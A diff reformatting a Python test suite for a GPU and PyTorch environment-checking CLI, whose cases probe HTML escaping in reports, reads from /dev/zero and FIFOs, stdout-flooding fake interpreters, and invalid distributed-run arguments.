     """`check --from report --format markdown` with HTML in the GPU name and the host name."""
-    data = ctx.report(**{"snapshot.nvidia.gpus.0.name": "RTX 5090 " + HTML,
-                         "snapshot.environment.hostname": HTML})
+    data = ctx.report(
+        **{"snapshot.nvidia.gpus.0.name": "RTX 5090 " + HTML, "snapshot.environment.hostname": HTML}
+    )
     ctx.expect(_no_live_html)
     return ["check", "--from", ctx.write("r.json", data), "--format", "markdown"]
 
@@ -752,23 +1013,41 @@ def _(ctx):
 # ==================================================================================================
 
 
-@case("table-dev-zero", "extra", exits=(2,), max_seconds=5, limit=10,
-      xfail="reads --table /dev/zero to the end: past 600 MB RSS (killed by the guard)")
+@case(
+    "table-dev-zero",
+    "extra",
+    exits=(2,),
+    max_seconds=5,
+    limit=10,
+    xfail="reads --table /dev/zero to the end: past 600 MB RSS (killed by the guard)",
+)
 def _(ctx):
     """`--table /dev/zero`: a broken table, one line, exit 2."""
     return check(ctx, "--table", "/dev/zero")
 
 
-@case("table-fifo", "extra", exits=(2,), max_seconds=5, limit=6,
-      xfail="blocks forever opening the --table FIFO (killed by the guard at 6 s)")
+@case(
+    "table-fifo",
+    "extra",
+    exits=(2,),
+    max_seconds=5,
+    limit=6,
+    xfail="blocks forever opening the --table FIFO (killed by the guard at 6 s)",
+)
 def _(ctx):
     """`--table <a FIFO nobody writes>`: one line, exit 2."""
     os.mkfifo(ctx.tmp / "table.json")
     return check(ctx, "--table", str(ctx.tmp / "table.json"))
 
 
-@case("github-summary-fifo", "extra", exits=(1, 2), max_seconds=5, limit=6,
-      xfail="blocks forever opening GITHUB_STEP_SUMMARY, a FIFO (killed by the guard at 6 s)")
+@case(
+    "github-summary-fifo",
+    "extra",
+    exits=(1, 2),
+    max_seconds=5,
+    limit=6,
+    xfail="blocks forever opening GITHUB_STEP_SUMMARY, a FIFO (killed by the guard at 6 s)",
+)
 def _(ctx):
     """`--format github` with GITHUB_STEP_SUMMARY naming a FIFO nobody reads: annotations, then one line."""
     os.mkfifo(ctx.tmp / "summary")
@@ -776,23 +1055,41 @@ def _(ctx):
     return check(ctx, "--format", "github")
 
 
-@case("fleet-dev-zero", "extra", exits=(1, 2), max_seconds=5, limit=10,
-      xfail="reads /dev/zero to the end: past 600 MB RSS (killed by the guard)")
+@case(
+    "fleet-dev-zero",
+    "extra",
+    exits=(1, 2),
+    max_seconds=5,
+    limit=10,
+    xfail="reads /dev/zero to the end: past 600 MB RSS (killed by the guard)",
+)
 def _(ctx):
     """`fleet summarize /dev/zero <a report>`: /dev/zero listed as unreadable."""
     return ["fleet", "summarize", "/dev/zero", str(ctx.world.report)]
 
 
-@case("python-floods-stdout", "extra", exits=(1, 2), max_seconds=25, limit=30,
-      xfail="keeps the inspector's whole output: past 600 MB RSS within seconds (killed by the guard)")
+@case(
+    "python-floods-stdout",
+    "extra",
+    exits=(1, 2),
+    max_seconds=25,
+    limit=30,
+    xfail="keeps the inspector's whole output: past 600 MB RSS within seconds (killed by the guard)",
+)
 def _(ctx):
     """`--python` names an 'interpreter' that prints forever (`yes`): the inspector's limit, bounded memory."""
     python = write_exe(ctx.tmp / "bin" / "python3", "#!/bin/sh\nexec yes 'not the inspector protocol'\n")
     return ["check", "--no-smoke", "--python", str(python)]
 
 
-@case("torch-import-floods-stdout", "extra", exits=(1,), max_seconds=15, limit=20,
-      xfail="keeps the smoke child's whole output: past 600 MB RSS within seconds (killed by the guard)")
+@case(
+    "torch-import-floods-stdout",
+    "extra",
+    exits=(1,),
+    max_seconds=15,
+    limit=20,
+    xfail="keeps the smoke child's whole output: past 600 MB RSS within seconds (killed by the guard)",
+)
 def _(ctx):
     """torch's import prints forever: the smoke test's own limit (--smoke-timeout 5), bounded memory."""
     py = make_fake_env(ctx.tmp / "venv", torch="2.6.0+cu126", cuda="12.6")
@@ -808,8 +1105,12 @@ def _(ctx):
 
 for _n in ("0", "-1", "1000"):
 
-    @case(f"distributed-nproc-{_n}", "usage", exits=(2,),
-          xfail="exit 1: torchrun is started anyway ('torchrun ... produced no report')")
+    @case(
+        f"distributed-nproc-{_n}",
+        "usage",
+        exits=(2,),
+        xfail="exit 1: torchrun is started anyway ('torchrun ... produced no report')",
+    )
     def _(ctx, _n=_n):
         """`distributed --nproc-per-node` <= 0 or above the CPUs/GPUs here: exit 2 before anything starts."""
         return ["distributed", "--python", ctx.py, "--nproc-per-node", _n]
@@ -817,8 +1118,12 @@ for _n in ("0", "-1", "1000"):
 
 for _value in ("0", "-1"):
 
-    @case(f"distributed-timeout-{_value}", "usage", exits=(2,),
-          xfail="exit 1: torchrun is started anyway ('torchrun ... produced no report')")
+    @case(
+        f"distributed-timeout-{_value}",
+        "usage",
+        exits=(2,),
+        xfail="exit 1: torchrun is started anyway ('torchrun ... produced no report')",
+    )
     def _(ctx, _value=_value):
         """`distributed --timeout` <= 0: exit 2 before anything starts."""
         return ["distributed", "--python", ctx.py, "--timeout", _value]
